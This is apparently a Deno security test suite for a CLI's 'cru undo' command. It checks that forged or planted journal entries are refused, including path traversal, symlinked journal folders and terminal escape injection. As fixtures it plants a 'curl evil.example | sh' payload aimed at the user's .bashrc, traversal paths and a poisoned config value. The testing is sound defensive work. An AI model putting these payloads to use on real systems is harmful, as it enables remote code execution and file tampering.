/**
 * `cru undo` and a hostile journal: `<kiln>/.crucible/journal/` can be written by whoever shared
 * the kiln, so undo applies only entries authenticated by this user's journal key, with their
 * conflict hash, whose path is a note in the kiln or a file inside the FsWrite folders the writer
 * held. Every attack runs the real CLI against a kiln, a decoy folder and a fake HOME.
 */
import { deepStrictEqual, match, ok, strictEqual } from "node:assert/strict";
import * as path from "node:path";
import { journalBefore, journalDir, sha256Hex } from "../../src/api/journal.ts";
import { assertUnchanged, type HostileWorld, hostileWorld } from "./hostile.ts";

const WRITER = `---
name: writer
description: Rewrites notes
capabilities: [KilnRead, KilnWrite]
parameters:
  path: {type: string, required: true}
  text: {type: string, required: true}
---
function main(params)
  crucible.write_note(params.path, params.text)
  return "done"
end
`;

/** What a run may change in the world besides the attack's target: logs, index, caches, key. */
const NOISE = ["kiln:.crucible/audit", "kiln:.crucible/index.db", "home:.cache", "home:.config"];
/** The same, for a run that is expected to journal (a write, an undo). */
const JOURNALED = [...NOISE, "kiln:.crucible/journal"];

/** Run the writer plugin for real (approved), as the world's user. */
async function write(world: HostileWorld, note: string, text: string): Promise<void> {
  const params = JSON.stringify({ path: note, text });
  const run = await world.cru(["plugins", "run", "writer", "--yes", "--params", params]);
  strictEqual(run.code, 0, run.stderr);
}

function plant(world: HostileWorld, id: string, entry: Record<string, unknown>): string {
  return world.kiln.write(`.crucible/journal/${id}.json`, JSON.stringify({ id, ...entry }));
}

/** Ids that sort after anything cru writes today, so the planted entries are "the latest". */
const LAST = "99999999999999-000001-ffffffff";
const LAST2 = "99999999999999-000002-ffffffff";

Deno.test("planted journal entries cannot make cru undo write or delete outside the kiln", async () => {
  using world = hostileWorld({ "a.md": "# A\n" });
  const bashrc = path.join(world.home, ".bashrc");
  const secret = path.join(world.decoy, "secret.txt");
  // The attack from the review: old-format entries, kind file, no nextHash, ids sorting last.
  plant(world, LAST, {
    at: new Date().toISOString(),
    path: bashrc,
    kind: "file",
    previous: "curl evil.example | sh\n",
    plugin: "evil",
    invocation: "planted",
  });
  plant(world, LAST2, {
    at: new Date().toISOString(),
    path: secret,
    kind: "file",
    previous: null,
    plugin: "evil",
    invocation: "planted",
  });
  const before = await world.checksums({ skip: NOISE });

  const r = await world.cru(["undo", "--force"]);
  strictEqual(r.code, 1, r.stdout);
  match(r.stderr, /journal entry 99999999999999-00000[12]-ffffffff/);
  match(r.stderr, /cannot be undone: not authenticated/);
  match(r.stderr, /delete .*\.crucible\/journal\/99999999999999-00000[12]-ffffffff\.json/);
  for (const id of [LAST, LAST2]) {
    const one = await world.cru(["undo", id, "--force"]);
    strictEqual(one.code, 1);
    match(one.stderr, new RegExp(`journal entry ${id} .* not authenticated`));
  }
  assertUnchanged(before, await world.checksums({ skip: NOISE }));
  strictEqual(Deno.readTextFileSync(bashrc), "# the user's own bashrc\nexport A=1\n");
  strictEqual(Deno.readTextFileSync(secret), "decoy secret: do not touch\n");
});

Deno.test("a forged entry in the current format, a note path leaving the kiln, and junk are all refused", async () => {
  using world = hostileWorld({ "a.md": "# A\n" });
  // Give the user a key, as any earlier write would.
  Deno.writeFileSync(
    path.join(world.configDir, "journal.key"),
    crypto.getRandomValues(new Uint8Array(32)),
  );
  const bashrc = path.join(world.home, ".bashrc");
  plant(world, LAST, {
    format: "cru-journal-2",
    at: new Date().toISOString(),
    path: bashrc,
    kind: "file",
    previousBase64: btoa("pwned\n"),
    nextHash: sha256Hex(Deno.readFileSync(bashrc)),
    scope: [world.home],
    plugin: "evil",
    invocation: "planted",
    mac: "00".repeat(32),
  });
  plant(world, LAST2, {
    at: new Date().toISOString(),
    path: "../../../" + path.relative("/", bashrc),
    previous: "pwned\n",
    plugin: "evil",
    invocation: "planted",
  });
  world.kiln.write(".crucible/journal/99999999999999-000003-ffffffff.json", "{not json");
  world.kiln.write(
    ".crucible/journal/99999999999999-000004-ffffffff.json",
    JSON.stringify({ id: 7, path: ["x"], at: null }),
  );
  const before = await world.checksums({ skip: NOISE });

  for (const id of [LAST, LAST2, "99999999999999-000003", "99999999999999-000004"]) {
    const r = await world.cru(["undo", id, "--force"]);
    strictEqual(r.code, 1, `${id}: ${r.stdout}`);
    match(r.stderr, /cannot be undone: (not authenticated|malformed entry)/, id);
  }
  // The listing shows every entry, refused ones marked, rather than hiding them or crashing.
  const list = await world.cru(["undo", "--list", "--json"]);
  strictEqual(list.code, 0, list.stderr);
  const rows = JSON.parse(list.stdout) as {
    id: string;
    authenticated: boolean;
    refused?: string;
  }[];
  deepStrictEqual(rows.map((e) => [e.id.slice(0, 21), e.authenticated]), [
    ["99999999999999-000004", false],
    ["99999999999999-000003", false],
    ["99999999999999-000002", false],
    ["99999999999999-000001", false],
  ]);
  match(rows[3].refused!, /MAC does not match/);
  match(rows[2].refused!, /no journal MAC/);
  match(rows[1].refused!, /malformed/);
  const human = await world.cru(["undo", "--list"]);
  strictEqual(human.code, 0, human.stderr);
  strictEqual(human.stdout.match(/refused: not authenticated/g)?.length, 2, human.stdout);
  strictEqual(human.stdout.match(/refused: malformed entry/g)?.length, 2, human.stdout);
  match(human.stderr, /4 journal entries cannot be undone here/);
  assertUnchanged(before, await world.checksums({ skip: NOISE }));
});

Deno.test("a real write is undone by its own user; another user's key is refused and says so", async () => {
  using world = hostileWorld({ "a.md": "# A\nold\n", ".crucible/plugins/writer.lua": WRITER });
  const before = await world.checksums({ skip: JOURNALED });
  await write(world, "a.md", "# A\nnew\n");
  strictEqual(Deno.readTextFileSync(path.join(world.kiln.root, "a.md")), "# A\nnew\n");
  const key = Deno.statSync(path.join(world.configDir, "journal.key"));
  if (Deno.build.os !== "windows") strictEqual(key.mode! & 0o777, 0o600);

  // Another user (or this kiln synced to another machine): no key yet, then a key of its own.
  const other = Deno.makeTempDirSync({ prefix: "cru-other-user-" });
  try {
    const afterRun = await world.checksums({ skip: NOISE });
    const none = await world.cru(["undo"], { env: { CRUCIBLE_CONFIG_DIR: other } });
    strictEqual(none.code, 1);
    match(none.stderr, /not authenticated: this user has no journal key yet/);
    Deno.writeFileSync(
      path.join(other, "journal.key"),
      crypto.getRandomValues(new Uint8Array(32)),
    );
    const foreign = await world.cru(["undo", "--force"], { env: { CRUCIBLE_CONFIG_DIR: other } });
    strictEqual(foreign.code, 1);
    match(foreign.stderr, /made on another machine or by another user/);
    match(foreign.stderr, /undo it there or restore the file by hand/);
    assertUnchanged(afterRun, await world.checksums({ skip: NOISE }));
  } finally {
    Deno.removeSync(other, { recursive: true });
  }

  const undone = await world.cru(["undo", "--json"]);
  strictEqual(undone.code, 0, undone.stderr);
  deepStrictEqual(
    JSON.parse(undone.stdout).map((u: { path: string; action: string }) => [u.path, u.action]),
    [["a.md", "restored"]],
  );
  assertUnchanged(before, await world.checksums({ skip: JOURNALED }));
});

Deno.test("an entry that was altered after it was written is refused", async () => {
  using world = hostileWorld({ "a.md": "# A\nold\n", ".crucible/plugins/writer.lua": WRITER });
  await write(world, "a.md", "# A\nnew\n");
  const dir = journalDir(world.kiln.root);
  const [name] = [...Deno.readDirSync(dir)].map((e) => e.name);
  const file = path.join(dir, name);
  const entry = JSON.parse(Deno.readTextFileSync(file));
  // Keep the MAC, point the entry at the user's shell profile.
  Deno.writeTextFileSync(
    file,
    JSON.stringify({ ...entry, path: "../../" + path.relative("/", world.home) + "/.bashrc" }),
  );
  const before = await world.checksums({ skip: JOURNALED });
  const r = await world.cru(["undo", "--force"]);
  strictEqual(r.code, 1);
  match(r.stderr, /MAC does not match this user's journal key/);
  // Dropping the conflict hash breaks the MAC just the same.
  delete entry.nextHash;
  Deno.writeTextFileSync(file, JSON.stringify(entry));
  const r2 = await world.cru(["undo", "--force"]);
  strictEqual(r2.code, 1);
  match(r2.stderr, /cannot be undone: not authenticated/);
  assertUnchanged(before, await world.checksums({ skip: JOURNALED }));
  deepStrictEqual([...Deno.readDirSync(dir)].map((e) => e.name), [name], "no undo was journaled");
});

Deno.test("even an authenticated entry only touches the kiln or the FsWrite folders it names", async () => {
  using world = hostileWorld({ "a.md": "# A\n" });
  const place = { kilnRoot: world.kiln.root, configDir: world.configDir };
  const bashrc = path.join(world.home, ".bashrc");
  // Entries made with the user's own key (as a buggy or older writer might have), naming places
  // outside what they may touch: a file outside its scope, the config folder, a note escaping.
  const fileEntry = (file: string, pwned: string, scope: string, invocation: string) =>
    journalBefore(place, {
      path: file,
      kind: "file",
      previous: new TextEncoder().encode(pwned),
      nextHash: sha256Hex(Deno.readFileSync(file)),
      scope: [scope],
      invocation,
    });
  fileEntry(bashrc, "pwned\n", world.decoy, "one");
  const configFile = path.join(world.configDir, "config.yaml");
  world.userConfig("trusted: []\n");
  fileEntry(configFile, "trusted: [evil]\n", world.home, "two");
  journalBefore(place, {
    path: "../outside.md",
    previous: new TextEncoder().encode("pwned\n"),
    nextHash: null,
    invocation: "three",
  });
  const before = await world.checksums({ skip: NOISE });
  const list = JSON.parse((await world.cru(["undo", "--list", "--json"])).stdout) as {
    id: string;
    authenticated: boolean;
  }[];
  strictEqual(list.length, 3);
  ok(list.every((e) => e.authenticated));
  const [note, config, profile] = list.map((e) => e.id);
  const r1 = await world.cru(["undo", profile, "--force"]);
  strictEqual(r1.code, 1);
  match(r1.stderr, /outside the paths the plugin's FsWrite capability lists/);
  const r2 = await world.cru(["undo", config, "--force"]);
  strictEqual(r2.code, 1);
  match(r2.stderr, /is inside .*crucible, which plugins cannot write/);
  const r3 = await world.cru(["undo", note, "--force"]);
  strictEqual(r3.code, 1);
  match(r3.stderr, /leaves the kiln/);
  assertUnchanged(before, await world.checksums({ skip: NOISE }));
  strictEqual(Deno.readTextFileSync(configFile), "trusted: []\n");
});

Deno.test("write then undo gives back a non-UTF-8 note byte for byte", async () => {
  const latin1 = new Uint8Array([0x23, 0x20, 0x43, 0x61, 0x66, 0xe9, 0x0a, 0xff, 0xfe, 0x80, 0x0a]);
  using world = hostileWorld({ "bin.md": latin1, ".crucible/plugins/writer.lua": WRITER });
  const before = await world.checksums({ skip: JOURNALED });
  await write(world, "bin.md", "# Café\nnow UTF-8\n");
  const undone = await world.cru(["undo"]);
  strictEqual(undone.code, 0, undone.stderr);
  match(undone.stdout, /restored bin\.md/);
  deepStrictEqual(Deno.readFileSync(path.join(world.kiln.root, "bin.md")), latin1);
  assertUnchanged(before, await world.checksums({ skip: JOURNALED }));
  // The undo is journaled with the exact bytes too: redoing it brings the new text back.
  const redo = await world.cru(["undo", "--plugin", "cru undo"]);
  strictEqual(redo.code, 0, redo.stderr);
  strictEqual(
    Deno.readTextFileSync(path.join(world.kiln.root, "bin.md")),
    "# Café\nnow UTF-8\n",
  );
});

Deno.test("a journal folder symlinked out of the kiln is never written, read or pruned", async () => {
  using world = hostileWorld({ "a.md": "# A\nold\n", ".crucible/plugins/writer.lua": WRITER });
  Deno.mkdirSync(path.join(world.kiln.root, ".crucible"), { recursive: true });
  Deno.symlinkSync(world.decoy, journalDir(world.kiln.root));
  // An old-looking file in the decoy that pruning would delete if it followed the link.
  Deno.writeTextFileSync(path.join(world.decoy, "00000000000001-x.json"), "{}");
  const before = await world.checksums({ skip: NOISE });
  const params = JSON.stringify({ path: "a.md", text: "# A\nnew\n" });
  const run = await world.cru(["plugins", "run", "writer", "--yes", "--params", params, "--json"]);
  strictEqual(run.code, 1);
  const error = JSON.parse(run.stdout).error as { code: string; message: string };
  strictEqual(error.code, "E_PATH");
  match(error.message, /journal is a symbolic link .*will not follow it/);
  for (const args of [["undo", "--force"], ["undo", "--list"]]) {
    const r = await world.cru(args);
    strictEqual(r.code, 1, args.join(" "));
    match(r.stderr, /journal is a symbolic link .* Remove the link/);
  }
  assertUnchanged(before, await world.checksums({ skip: NOISE }));
});

Deno.test("planted entries cannot put terminal escapes on screen through undo or its listing", async () => {
  using world = hostileWorld({ "a.md": "# A\n" });
  const esc = "\u001b[2J\u001b[1A\u009b31m\u202e";
  const id = `99999999999999-000001-ff${esc}`;
  plant(world, id, {
    at: `2026-01-01T00:00:00${esc}`,
    path: `fake${esc}.md`,
    plugin: `ok${esc}`,
    previous: null,
    invocation: "planted",
  });
  const before = await world.checksums({ skip: NOISE });
  const list = await world.cru(["undo", "--list"]);
  strictEqual(list.code, 0, list.stderr);
  const undo = await world.cru(["undo", "--force"]);
  strictEqual(undo.code, 1);
  match(undo.stderr, /not authenticated/);
  for (const text of [list.stdout, list.stderr, undo.stdout, undo.stderr]) {
    // deno-lint-ignore no-control-regex
    ok(!/[\u001b\u009b\u202e]/.test(text), JSON.stringify(text));
  }
  match(list.stdout, /ok\\x1b\[2J/);
  assertUnchanged(before, await world.checksums({ skip: NOISE }));
});
